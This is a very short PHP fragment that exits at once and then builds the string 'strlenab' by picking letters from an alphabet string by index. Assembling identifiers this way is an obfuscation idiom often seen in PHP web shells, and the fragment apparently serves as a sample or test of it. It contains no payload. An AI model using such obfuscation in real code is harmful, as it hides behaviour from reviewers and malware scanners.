<?php exit;
$t = 'abcdefghijklmnopqrstuvwxyz';
$f = $t[18].$t[19].$t[17].$t[11].$t[4].$t[13].$t[0].$t[1];
